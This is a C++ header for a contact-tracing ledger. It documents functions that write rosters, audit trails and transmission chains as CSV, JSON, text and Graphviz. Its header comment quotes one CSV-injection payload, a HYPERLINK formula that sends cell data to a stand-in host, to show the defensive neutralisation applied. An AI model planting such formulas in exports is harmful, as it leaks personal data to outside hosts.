// Copyright 2026 The ContactLedger Authors.
//
// contactledger/report.h: the answers of the ledger as CSV and JSON text.
//
// The answers of a Tracer (contactledger/tracing.h) in the formats that
// `ledgerctl roster`, `ledgerctl loops` and the county drill write, for
// programs that hand them on to a spreadsheet, a script or a web page:
//
//   WriteRosterCsv / WriteRosterJson  one row per RosterEntry, columns
//     person_id, role, source, last_exposure, until, continuous, place
//   WriteLoopsCsv / WriteLoopsJson    one row per OpenLoop, columns
//     person_id, kind, since, detail
//
// Rows keep the order they are given in (a Tracer sorts them: the roster by
// person id, the loops by person id, kind and since).
//
// The Tracer's other answers, Contacts and AuditTrail have writers of their
// own further down, in the same CSV and JSON forms (what `ledgerctl explain`,
// `rollup`, `pass`, `contacts`, `chains` and `audit` print), and so has one
// record with its versions (what `ledgerctl show` prints).
//
// Values:
//   person_id, source  the ids as recorded
//   role           case | close_contact | secondary_contact (RoleName)
//   last_exposure, since
//                  RFC 3339 to the second with the offset of `zone`, e.g.
//                  2020-01-24T21:00:00+08:00 (pass the ledger's zone,
//                  docs/rules.md section 1); empty for an infinite time
//   until          the last day of quarantine, YYYY-MM-DD; empty for a
//                  continuous contact
//   continuous     true | false
//   place          hospital | centralized | home; empty when unspecified
//   kind           unplaced | unisolated_case | ... (LoopKindName)
//   detail         the loop's sentence
// A case's roster row has only person_id, role and place: its source,
// last_exposure, until and continuous are empty.
//
// CSV (RFC 4180): a header row naming the columns, then one line per row;
// fields separated by ',', every line ended by LF (not CR LF). A field that
// holds ',', '"', CR or LF is enclosed in '"' with each '"' doubled
// (CsvField); any other field is written as it is. Formulas are neutralised
// (OWASP, "CSV Injection"): a field that begins with '=', '+', '-', '@', tab
// or CR gets a "'" in front, inside the quotes if it has them, so that a
// spreadsheet shows it as text instead of running it: an exposure partner
// recorded as =HYPERLINK("http://x/?"&A3,"x") is written
// "'=HYPERLINK(""http://x/?""&A3,""x"")". The one exception is an integer
// ('-' and digits, e.g. a negative overlap_seconds), which a spreadsheet
// reads as a number: it is written as it is, whatever column holds it.
// Every CSV writer here goes through CsvField; JSON is not changed.
//
// JSON (RFC 8259): an array with one object per row and line, the fields in
// the CSV column order, an empty value as null and `continuous` a boolean
// (null for a case):
//
//   [
//     {"person_id": "p1", "role": "case", "source": null, ...},
//     {"person_id": "p3", "role": "close_contact", "source": "p1", ...}
//   ]
//
// and "[]" for no rows; each text ends with a line break. Strings are escaped
// by JsonString: '"' and '\' with a backslash, LF, CR and tab as \n, \r,
// \t, other control characters as \u00XX; everything else (UTF-8 included)
// is copied as it is.
//
// Example:
//
//   absl::StatusOr<std::unique_ptr<contactledger::Tracer>> tracer =
//       contactledger::Tracer::Create(*ledger, query);
//   std::cout << contactledger::WriteRosterCsv((*tracer)->Roster(),
//                                              ledger->time_zone());
//   // person_id,role,source,last_exposure,until,continuous,place
//   // p1,case,,,,,hospital
//   // p3,close_contact,p1,2020-01-24T21:00:00+08:00,2020-02-07,false,...
//
// All functions are pure and thread-safe.

#ifndef CONTACTLEDGER_REPORT_H_
#define CONTACTLEDGER_REPORT_H_

#include <string>
#include <utility>
#include <vector>

#include "absl/strings/string_view.h"
#include "absl/time/time.h"
#include "absl/types/span.h"
#include "contactledger/scope.h"
#include "contactledger/tracing.h"
#include "contactledger/v1/ledger.pb.h"

namespace contactledger {

// The roster as CSV: the header row, then one line per entry.
std::string WriteRosterCsv(absl::Span<const RosterEntry> roster,
                           absl::TimeZone zone);

// The roster as a JSON array of objects.
std::string WriteRosterJson(absl::Span<const RosterEntry> roster,
                            absl::TimeZone zone);

// The open loops as CSV: the header row, then one line per loop.
std::string WriteLoopsCsv(absl::Span<const OpenLoop> loops,
                          absl::TimeZone zone);

// The open loops as a JSON array of objects.
std::string WriteLoopsJson(absl::Span<const OpenLoop> loops,
                           absl::TimeZone zone);

// --- The other answers. ---
//
// CSV and JSON as above: a header row and one line per row, or a JSON array
// of objects with the fields in the CSV column order. Times are RFC 3339 to
// the second with the offset of `zone` (empty or null for an infinite time),
// days YYYY-MM-DD, sequence numbers and counts decimal.

// Tracer::Explain. Text: "person ID: in the roster as ROLE" (or "not in the
// roster (ROLE)", "not in the roster"), then one line each for "until: DAY",
// every "phase: PLACE FIRST_DAY to LAST_DAY", every "source: ID by RULE,
// exposures 3, 7; first TIME; last exposure TIME; overlap 1h30m" (";
// continuous" instead of the last exposure for a continuous one) and every
// "note: ...".
std::string WriteExplanationText(const Explanation& explanation,
                                 absl::TimeZone zone);

// Tracer::Explain as CSV: person_id, in_roster, role, source, rule,
// exposures (sequence numbers separated by ';'), first, last_exposure,
// overlap_seconds, continuous, until; one row per source, or one row with
// empty source fields when there is none.
std::string WriteExplanationCsv(const Explanation& explanation,
                                absl::TimeZone zone);

// Tracer::Explain as one JSON object on one line: person_id, in_roster,
// role, until, and the arrays sources (objects with source, rule, exposures
// as an array of numbers, first, last_exposure, overlap_seconds,
// continuous), phases (place, first_day, last_day) and notes (strings).
std::string WriteExplanationJson(const Explanation& explanation,
                                 absl::TimeZone zone);

// Tracer::AreaRollup: area_id, name, persons, households, active_cases,
// close_contacts, secondary_contacts, in_hospital, in_centralized, at_home,
// one count per loop kind named by LoopKindName (unplaced ... unregistered),
// checks_last_24h.
std::string WriteAreaRollupCsv(absl::Span<const AreaRollupRow> rows);
std::string WriteAreaRollupJson(absl::Span<const AreaRollupRow> rows);

// Tracer::MayPass for `person_id` at `checkpoint_id`. Text: "allowed",
// "refused" or "unknown person", then ": " and the reason when there is one.
// CSV: person_id, checkpoint_id, decision (allowed | refused |
// unknown_person: PassVerdictName), reason. JSON: one object on one line
// with person_id, checkpoint_id, allowed (a boolean: true only for
// allowed), verdict (as the CSV's decision) and reason.
std::string WritePassDecisionText(const PassDecision& decision);
std::string WritePassDecisionCsv(absl::string_view person_id,
                                 absl::string_view checkpoint_id,
                                 const PassDecision& decision);
std::string WritePassDecisionJson(absl::string_view person_id,
                                  absl::string_view checkpoint_id,
                                  const PassDecision& decision);

// Contacts (contactledger/tracing.h): person_id, hops.
std::string WriteContactsCsv(absl::Span<const ContactAtDistance> contacts);
std::string WriteContactsJson(absl::Span<const ContactAtDistance> contacts);

// Tracer::TransmissionChains as CSV: chain (numbered from 1 in the order
// given), from, to, rule, exposures (separated by ';'); one row per edge, and
// a chain without edges as one row "N,CASE,,," per case.
std::string WriteTransmissionChainsCsv(
    absl::Span<const TransmissionChain> chains);

// The chains as a JSON array with one object per chain, on one line each:
// chain (numbered from 1 in the order given), cases (an array of ids), edges
// (an array of objects with from, to, rule and exposures, an array of
// sequence numbers).
std::string WriteTransmissionChainsJson(
    absl::Span<const TransmissionChain> chains);

// The chains as a Graphviz digraph: one cluster per chain labelled "chain
// N", a box per case, and an edge per link labelled with its rule and
// exposures (separated by ','). Ids and labels go through DotQuote.
std::string WriteTransmissionChainsDot(
    absl::Span<const TransmissionChain> chains);

// AuditTrail (contactledger/scope.h): sequence_number, record_time (RFC 3339
// with the fraction of a second), actor, kind (AuditKindName), retracted
// (true | false), retracted_by, retracts (sequence numbers; empty or null
// when none).
std::string WriteAuditTrailCsv(absl::Span<const AuditEntry> trail,
                               absl::TimeZone zone);
std::string WriteAuditTrailJson(absl::Span<const AuditEntry> trail,
                                absl::TimeZone zone);

// The same with what each event said: `details[i]` (AuditEventDetail) for
// trail[i], as the last column (CSV) or field (JSON) `detail`; an entry
// without one (details shorter than trail) has an empty detail.
std::string WriteAuditTrailCsv(absl::Span<const AuditEntry> trail,
                               absl::Span<const std::string> details,
                               absl::TimeZone zone);
std::string WriteAuditTrailJson(absl::Span<const AuditEntry> trail,
                                absl::Span<const std::string> details,
                                absl::TimeZone zone);

// What `event`, one of the audit trail of `person_id`, said, in one line.
// Times are RFC 3339 to the second in `zone`, days YYYY-MM-DD, enums by
// their names (lib/util/names.h: "confirmed", "centralized", ...):
//   person              the first version (`previous` nullptr):
//                       "registered: FIELD VALUE, ..." with the fields set
//                       but the id (RecordFields); a later one, against
//                       `previous`: "changed: FIELD OLD -> NEW, ..." (an
//                       unset value as "(none)"), or "no field changed"
//   exposure            "with PARTNER from START to END, SETTING" and, when
//                       it has them, ", id ID" and ", note NOTE"
//   diagnosis           "STATUS at TIME" and ", onset DAY"
//   quarantine_action   "start at PLACE at TIME" or "end at TIME"
//   health_check        "TEMPERATURE °C at TIME" and ", symptoms A; B" and
//                       ", checked by WHO"
//   checkpoint_passage  "DIRECTION at CHECKPOINT at TIME"
//   retraction          "withdraws event N" and ": REASON"
// Private values are written as they are in `event`: redact the event (and
// `previous`) first for output that must not show them (privacy.h).
std::string AuditEventDetail(const v1::LedgerEvent& event,
                             absl::string_view person_id,
                             const v1::Person* previous, absl::TimeZone zone);

// --- One record: what `ledgerctl show` prints. ---

// One field of a record: its name in the schema and its value as text.
using RecordField = std::pair<std::string, std::string>;

// The fields set in a record, in the schema's order, the id included:
// strings as they are, Area.level by name (county ...), Person.birth_date
// YYYY-MM-DD, Person.tags joined by "; ", each travel entry as "PLACE FROM
// to TO" (a missing day left out) joined by "; ". Unset fields are left out.
std::vector<RecordField> RecordFields(const v1::Area& area);
std::vector<RecordField> RecordFields(const v1::Household& household);
std::vector<RecordField> RecordFields(const v1::Person& person);

// An area, household or person as the ledger knew it, with its versions and
// the records around it.
struct RecordSheet {
  std::string kind;  // "area", "household" or "person"
  std::string id;
  // The current version's RecordFields; empty when it has none (every
  // version retracted, or a person named by events but never registered).
  std::vector<RecordField> fields;
  // The records around it, by relation, each with its ids: an area's
  // "parent" and "children", a household's "area" and "members", a
  // person's "household" and "area". An empty list is written too.
  std::vector<std::pair<std::string, std::vector<std::string>>> related;
  // Sentences about the record, e.g. a person's latest diagnosis.
  std::vector<std::string> notes;
  // Oldest first (AreaVersions, HouseholdVersions, PersonVersions).
  std::vector<RecordVersion> versions;
};

// Text: "KIND ID", then "  FIELD: VALUE" per field, "  RELATION: ID, ID"
// per relation ("(none)" for an empty list), "  note: ..." per note, and
// "versions:" with one line per version, "  SEQUENCE RECORD_TIME by ACTOR"
// (record time with the fraction of a second; "by" left out without an
// actor) and ", retracted by N" for a retracted one.
// JSON: one object on one line: kind, id, fields (an object, FIELD:
// VALUE), related (an object of arrays), notes (an array of strings) and
// versions (an array of objects: sequence_number, record_time, actor,
// retracted, retracted_by; null for an empty one).
std::string WriteRecordText(const RecordSheet& sheet, absl::TimeZone zone);
std::string WriteRecordJson(const RecordSheet& sheet, absl::TimeZone zone);

// --- Building blocks, for other tables in the same formats. ---

// "hospital", "centralized", "home"; "" for QUARANTINE_PLACE_UNSPECIFIED
// (and any value the schema does not know).
absl::string_view QuarantinePlaceName(v1::QuarantinePlace place);

// One CSV field, quoted as above when it must be: CsvField("a,b") is
// "\"a,b\"", CsvField("say \"hi\"") is "\"say \"\"hi\"\"\"". A formula is
// neutralised as above: CsvField("=1+2") is "'=1+2", CsvField("-7") is "-7".
std::string CsvField(absl::string_view value);

// The fields quoted by CsvField, separated by ',', ended by LF.
std::string CsvRow(absl::Span<const std::string> fields);

// A JSON string literal, quotes included: JsonString("a\"b") is "\"a\\\"b\"".
std::string JsonString(absl::string_view value);

// A JSON array of already-encoded values laid out as above: "[", one item
// per line indented by two spaces, "]" and a line break; "[]\n" for none.
std::string JsonArray(absl::Span<const std::string> items);

// A Graphviz DOT ID for any text, quotes included: '"' and '\' escaped with a
// backslash, a line break as DOT's "\n" (a centred line break in a label),
// CR dropped. DotQuote("p1\ncase") is "\"p1\\ncase\"". Ids and labels of
// a DOT file written from ledger data must all go through it, so that an id
// holding a quote cannot end a label early.
std::string DotQuote(absl::string_view text);

}  // namespace contactledger

#endif  // CONTACTLEDGER_REPORT_H_
